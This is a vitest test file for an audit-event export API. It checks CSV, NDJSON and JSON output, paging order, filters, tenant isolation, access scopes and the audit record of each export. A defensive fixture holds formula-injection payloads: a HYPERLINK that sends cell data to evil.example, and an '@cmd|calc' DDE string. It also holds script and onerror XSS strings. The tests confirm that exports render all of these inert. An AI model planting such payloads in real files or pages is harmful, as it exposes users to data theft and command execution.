import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { GET as LIST, POST } from '../../src/routes/api/v1/events/+server';
import { GET as EXPORT } from '../../src/routes/api/v1/events/export/+server';
import { GET as SESSION_EXPORT } from '../../src/routes/(app)/events/export/+server';
import { GET as SESSION_COUNT } from '../../src/routes/(app)/events/export/count/+server';
import { createApiKey } from '../../src/lib/server/auth/api-keys';
import { insertUser, toUser, type User } from '../../src/lib/server/auth/users';
import { exportTuning } from '../../src/lib/server/export/export-stream';
import type { EventOutput } from '../../src/lib/server/queries/events/event-columns';
import type { Role } from '../../src/lib/schemas/roles';
import { call, ready } from './helpers';

const tenant = 'exp';
const base = Date.now() - 2 * 3600e3;
const N = 3000;
const PAGE = 500;

// Seven events share each millisecond and a page holds 500, so page boundaries fall inside ties
// and keyset paging must break them on id.
const events = Array.from({ length: N }, (_, i) => ({
	id: randomUUID(),
	tenant,
	occurred_at: new Date(base + Math.floor(i / 7) * 1000).toISOString(),
	source: i % 2 ? 'helpdesk' : 'workspace',
	actor: { id: `u-${i % 13}`, email: `user${i % 13}@company.com`, name: `User ${i % 13}` },
	action: i % 5 === 0 ? 'login_failed' : 'contact_updated',
	outcome: i % 5 === 0 ? 'failure' : 'success',
	ip: i % 3 === 0 ? `203.0.113.${i % 250}` : `2001:db8::${(i % 500).toString(16)}`,
	target: { type: 'contact', id: String(10_000 + i), name: `Contact ${i}` },
	user_agent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
	details: { note: `n${i}`, seq: i },
	...(i % 4 === 0 ? { changes: { before: { role: 'agent' }, after: { role: 'admin' } } } : {})
}));
// Fields a spreadsheet would run or a browser would render; they must come out inert.
const hostile = {
	id: randomUUID(),
	tenant,
	occurred_at: new Date(base + 3600e3).toISOString(),
	actor: { id: 'u-evil', email: 'evil@company.com', name: '=HYPERLINK("http://evil.example/?d="&A1,"Click")' },
	action: 'contact_updated',
	reason: '+SUM(1,2)',
	target: { type: 'contact', id: '-2+3', name: '<script>alert(1)</script><img src=x onerror=alert(2)>' },
	user_agent: '@cmd|calc',
	session_id: '\tTAB',
	details: { html: '<b>bold</b>', formula: '=1+1', text: 'tab\there, "quoted", back\\slash, new\nline, é 東京 🙂' }
};
interface Sent {
	id: string;
	actor: { id: string; name: string };
	action: string;
	outcome?: string;
	ip?: string;
	source?: string;
	details: Record<string, unknown>;
}
const all: Sent[] = [...events, hostile];
const others = Array.from({ length: 50 }, (_, i) => ({ tenant: 'exp-other', occurred_at: new Date(base + i * 1000).toISOString(), action: 'login', actor: `o-${i}` }));

interface Download {
	status: number;
	headers: Headers;
	text: string;
}
interface Caller {
	key?: string;
	user?: User | null;
	cookies?: Record<string, string>;
}

/** Calls a route handler as SvelteKit would and reads the whole streamed body. */
async function download(handler: unknown, path: string, who: Caller = {}): Promise<Download> {
	const url = new URL(path, 'http://localhost');
	const headers: Record<string, string> = { 'user-agent': 'export-test/1.0' };
	if (who.key) headers.authorization = `Bearer ${who.key}`;
	const request = new Request(url, { headers });
	const event = {
		request,
		url,
		params: {},
		locals: { user: who.user ?? null, sessionToken: null },
		cookies: { get: (name: string) => who.cookies?.[name] },
		getClientAddress: () => '198.51.100.99'
	};
	const res = await (handler as (e: typeof event) => Promise<Response>)(event);
	return { status: res.status, headers: res.headers, text: await res.text() };
}

let readKey: { id: string; name: string; secret: string };
const api = (query: string, caller: Caller = { key: readKey.secret }) => download(EXPORT, `/api/v1/events/export?${query}`, caller);

/** The ids GET /api/v1/events answers for a filter, page by page: the order an export must keep. */
async function listed(query: string): Promise<string[]> {
	const ids: string[] = [];
	let cursor: string | null = null;
	do {
		const r = await call(LIST, `/api/v1/events?${query}&limit=1000${cursor ? `&cursor=${cursor}` : ''}`);
		expect(r.status).toBe(200);
		ids.push(...r.json.events.map((e: { id: string }) => e.id));
		cursor = r.json.next_cursor;
	} while (cursor);
	return ids;
}

const idsWhere = (pred: (e: Sent) => boolean) => new Set(all.filter(pred).map((e) => e.id));
const ndjson = (text: string) => text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as EventOutput);
const csv = (text: string) => parse(text, { columns: true }) as Record<string, string>[];
const defused = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

/** The CSV cells an API-shaped event must come out as. */
const csvOf = (e: EventOutput): Record<string, string> => ({
	time: e.occurred_at,
	tenant: e.tenant,
	source: e.source ?? '',
	user_id: e.actor?.id ?? '',
	user_email: e.actor?.email ?? '',
	user_name: e.actor?.name ?? '',
	user_type: e.actor?.type ?? '',
	action: e.action,
	category: e.category,
	result: e.outcome,
	target_type: e.target?.type ?? '',
	target_id: e.target?.id ?? '',
	target_name: e.target?.name ?? '',
	ip: e.ip ?? '',
	country: e.geo?.country ?? '',
	city: e.geo?.city ?? '',
	user_agent: e.user_agent ?? '',
	reason: e.reason ?? '',
	session_id: e.session_id ?? '',
	request_id: e.request_id ?? '',
	changed_fields: e.changed_fields.join('; '),
	details: e.details ? JSON.stringify(e.details) : '',
	changes: e.changes ? JSON.stringify(e.changes) : '',
	records: e.records === undefined ? '' : String(e.records),
	bytes: e.bytes === undefined ? '' : String(e.bytes),
	content_hash: e.content_hash,
	event_id: e.id,
	received_at: e.received_at
});

async function person(role: Role, tenants = ['*']): Promise<User> {
	return toUser(await insertUser({ email: `export-${role}-${randomUUID().slice(0, 8)}@example.com`, name: `Export ${role}`, role, tenants, passwordHash: 'x' }, new Date()));
}

const pageSize = exportTuning.pageSize;
beforeAll(async () => {
	await ready();
	exportTuning.pageSize = PAGE;
	const { key, secret } = await createApiKey({ name: 'export reader', scopes: ['read'], tenant: null, createdBy: 'test' });
	readKey = { id: key.id, name: key.name, secret };
	expect((await call(POST, '/api/v1/events', { body: all })).status).toBe(202);
	expect((await call(POST, '/api/v1/events', { body: others })).status).toBe(202);
});
afterAll(() => {
	exportTuning.pageSize = pageSize;
});

describe('GET /api/v1/events/export', () => {
	it('exports the whole filtered set as CSV, pages beyond the first included, newest first', async () => {
		const query = `tenant=${tenant}&from=now-1d`;
		const r = await api(`format=csv&${query}&limit=5`);
		expect(r.status, r.text.slice(0, 300)).toBe(200);
		expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="trailscope-events-\d{8}T\d{6}Z\.csv"$/);
		expect(r.headers.get('cache-control')).toBe('no-store');
		const rows = csv(r.text);
		expect(rows.length).toBeGreaterThan(PAGE * 5);
		expect(Number(r.headers.get('x-total-count'))).toBe(rows.length);
		expect(new Set(rows.map((row) => row.event_id))).toEqual(idsWhere(() => true));
		expect(rows.map((row) => row.event_id)).toEqual(await listed(query));
	});

	it('writes every CSV cell as the API shows the field, formulas behind a quote mark', async () => {
		const query = `tenant=${tenant}&from=now-1d&f=target_id:in:10000,10001,10002,10003,10004,10005,-2%2B3`;
		const [asCsv, asNdjson] = await Promise.all([api(`format=csv&${query}`), api(`format=ndjson&${query}`)]);
		const expected = ndjson(asNdjson.text).map((e) => Object.fromEntries(Object.entries(csvOf(e)).map(([k, v]) => [k, defused(v)])));
		expect(expected).toHaveLength(7);
		expect(csv(asCsv.text)).toEqual(expected);
	});

	it('exports a hostile event inert: formulas neutralised in CSV, HTML kept as plain text', async () => {
		const r = await api(`format=csv&tenant=${tenant}&from=now-1d&actor=u-evil`);
		const [row] = csv(r.text);
		expect(row.user_name).toBe(`'${hostile.actor.name}`);
		expect(row.reason).toBe("'+SUM(1,2)");
		expect(row.target_id).toBe("'-2+3");
		expect(row.user_agent).toBe("'@cmd|calc");
		expect(row.session_id).toBe("'\tTAB");
		expect(row.target_name).toBe(hostile.target.name);
		expect(JSON.parse(row.details)).toEqual(hostile.details);
		for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

		const j = await api(`format=json&tenant=${tenant}&from=now-1d&actor=u-evil`);
		expect(j.headers.get('content-type')).toBe('application/json');
		expect(j.headers.get('content-disposition')).toMatch(/^attachment; /);
		const [event] = JSON.parse(j.text) as EventOutput[];
		expect(event.target?.name).toBe(hostile.target.name);
		expect(event.details).toEqual(hostile.details);
	});

	it.each([
		['ndjson', `outcome=failure&f=actor:ne:u-3`, (e: Sent) => e.outcome === 'failure' && e.actor.id !== 'u-3'],
		['json', `action=LOGIN_FAILED&ip=203.0.113.0/24`, (e: Sent) => e.action === 'login_failed' && String(e.ip).startsWith('203.')],
		['json', `source=helpdesk&f=details.seq:lt:1200`, (e: Sent) => e.source === 'helpdesk' && Number(e.details.seq) < 1200]
	])('exports %s filtered by %s: exactly that set, in order', async (format, filter, pred) => {
		const query = `tenant=${tenant}&from=now-1d&${filter}`;
		const r = await api(`format=${format}&${query}`);
		expect(r.status, r.text.slice(0, 300)).toBe(200);
		expect(r.headers.get('content-type')).toBe(format === 'json' ? 'application/json' : 'application/x-ndjson');
		const exported = format === 'json' ? (JSON.parse(r.text) as EventOutput[]) : ndjson(r.text);
		expect(exported.length).toBe(Number(r.headers.get('x-total-count')));
		expect(new Set(exported.map((e) => e.id))).toEqual(idsWhere(pred));
		expect(exported.map((e) => e.id)).toEqual(await listed(query));
		expect(exported[0]).toMatchObject({ tenant, category: expect.any(String), received_at: expect.any(String) });
	});

	it('exports an empty set as a valid empty file in each format', async () => {
		const none = `tenant=${tenant}&from=now-1d&q=nothing-matches-this`;
		const [j, n, c] = await Promise.all(['json', 'ndjson', 'csv'].map((f) => api(`format=${f}&${none}`)));
		expect(JSON.parse(j.text)).toEqual([]);
		expect(n.text).toBe('');
		expect(csv(c.text)).toEqual([]);
		expect(c.text.split('\r\n')[0]).toMatch(/^time,tenant,source,user_id,/);
		for (const r of [j, n, c]) expect(r.headers.get('x-total-count')).toBe('0');
	});

	it('answers 400 naming the parameter for an unknown format or a bad filter', async () => {
		for (const [query, parameter] of [
			['format=xml', 'format'],
			['format=csv&outcome=maybe', 'outcome'],
			['format=csv&ip=not-an-address', 'ip'],
			['format=json&f=nope:eq:1', 'f'],
			['format=json&from=yesterday-ish', 'from']
		]) {
			const r = await api(query);
			expect(r.status, query).toBe(400);
			expect(JSON.parse(r.text).error.parameter, query).toBe(parameter);
		}
	});

	it('needs a key with the read scope and keeps a bound key to its tenant', async () => {
		expect((await api('format=csv', {})).status).toBe(401);
		expect((await api('format=csv', { key: (await createApiKey({ name: 'ingest only', scopes: ['ingest'], tenant: null, createdBy: 'test' })).secret })).status).toBe(403);
		const bound = { key: (await createApiKey({ name: 'other only', scopes: ['read'], tenant: 'exp-other', createdBy: 'test' })).secret };
		expect((await api(`format=csv&tenant=${tenant}`, bound)).status).toBe(403);
		const mine = ndjson((await api('format=ndjson&from=now-1d', bound)).text);
		expect(mine).toHaveLength(others.length);
		expect(new Set(mine.map((e) => e.tenant))).toEqual(new Set(['exp-other']));
	});

	it('records each export as an events_exported audit event with the filter and the count', async () => {
		const r = await api(`format=ndjson&tenant=${tenant}&from=now-1d&outcome=failure`);
		const count = Number(r.headers.get('x-total-count'));
		expect(count).toBe(idsWhere((e) => e.outcome === 'failure').size);
		const trail = ndjson((await api('format=ndjson&tenant=trailscope&action=events_exported&from=now-1h')).text);
		const mine = trail.filter((e) => e.details?.format === 'ndjson' && JSON.stringify(e.details?.filter) === JSON.stringify({ tenant, from: 'now-1d', outcome: ['failure'] }));
		expect(mine).toHaveLength(1);
		expect(mine[0]).toMatchObject({
			action: 'events_exported',
			category: 'data_export',
			source: 'trailscope',
			actor: { id: readKey.id, name: readKey.name, type: 'api_key' },
			ip: '198.51.100.99',
			user_agent: 'export-test/1.0',
			details: { format: 'ndjson', records: count },
			records: count
		});
	});

	it('leaves its own audit event out of an export of the audit trail, so the count holds', async () => {
		const query = 'format=json&tenant=trailscope&action=events_exported&from=now-1h';
		const first = await api(query);
		const second = await api(query);
		const [a, b] = [JSON.parse(first.text) as EventOutput[], JSON.parse(second.text) as EventOutput[]];
		expect(a.length).toBe(Number(first.headers.get('x-total-count')));
		expect(b.length).toBe(Number(second.headers.get('x-total-count')));
		expect(b.length).toBe(a.length + 1);
	});

	it('stops cleanly when the client goes away midway', async () => {
		const request = new Request(`http://localhost/api/v1/events/export?format=csv&tenant=${tenant}&from=now-1d`, { headers: { authorization: `Bearer ${readKey.secret}` } });
		const url = new URL(request.url);
		const res = await (EXPORT as unknown as (e: object) => Promise<Response>)({ request, url, params: {}, getClientAddress: () => '198.51.100.99' });
		const reader = res.body!.getReader();
		expect((await reader.read()).done).toBe(false);
		await reader.cancel();
		// The store still answers at once: nothing was left holding it.
		expect((await api(`format=json&tenant=${tenant}&from=now-1d&actor=u-evil`)).status).toBe(200);
	});
});

describe('GET /events/export (signed in)', () => {
	it('refuses a member, and anyone not signed in', async () => {
		const member = await person('member');
		for (const handler of [SESSION_EXPORT, SESSION_COUNT]) {
			expect((await download(handler, '/events/export?format=csv', { user: member })).status).toBe(403);
			expect((await download(handler, '/events/export?format=csv', { user: null })).status).toBe(401);
		}
	});

	it('exports the tenant chosen in the header when the filter names none, and counts it first', async () => {
		const analyst = await person('analyst');
		const who = { user: analyst, cookies: { ts_tenant: tenant } };
		const count = await download(SESSION_COUNT, '/events/export/count?outcome=failure', who);
		expect(count.status).toBe(200);
		expect(JSON.parse(count.text)).toEqual({ count: idsWhere((e) => e.outcome === 'failure').size });
		const r = await download(SESSION_EXPORT, '/events/export?format=csv&outcome=failure', who);
		expect(r.status).toBe(200);
		const rows = csv(r.text);
		expect(Number(r.headers.get('x-total-count'))).toBe(rows.length);
		expect(new Set(rows.map((row) => row.event_id))).toEqual(idsWhere((e) => e.outcome === 'failure'));

		const trail = ndjson((await api('format=ndjson&tenant=trailscope&action=events_exported&from=now-1h')).text);
		expect(trail.find((e) => e.actor?.id === analyst.id)).toMatchObject({
			actor: { id: analyst.id, email: analyst.email, name: analyst.name, type: 'user' },
			ip: '198.51.100.99',
			user_agent: 'export-test/1.0',
			details: { format: 'csv', filter: { from: 'now-24h', tenant, outcome: ['failure'] }, records: rows.length }
		});
	});

	it('keeps a user to their tenants, whatever the cookie or the filter says', async () => {
		const auditor = await person('auditor', ['exp-other']);
		const own = await download(SESSION_EXPORT, '/events/export?format=ndjson', { user: auditor, cookies: { ts_tenant: tenant } });
		expect(ndjson(own.text)).toHaveLength(others.length);
		expect((await download(SESSION_EXPORT, `/events/export?format=ndjson&tenant=${tenant}`, { user: auditor })).status).toBe(403);
	});
});
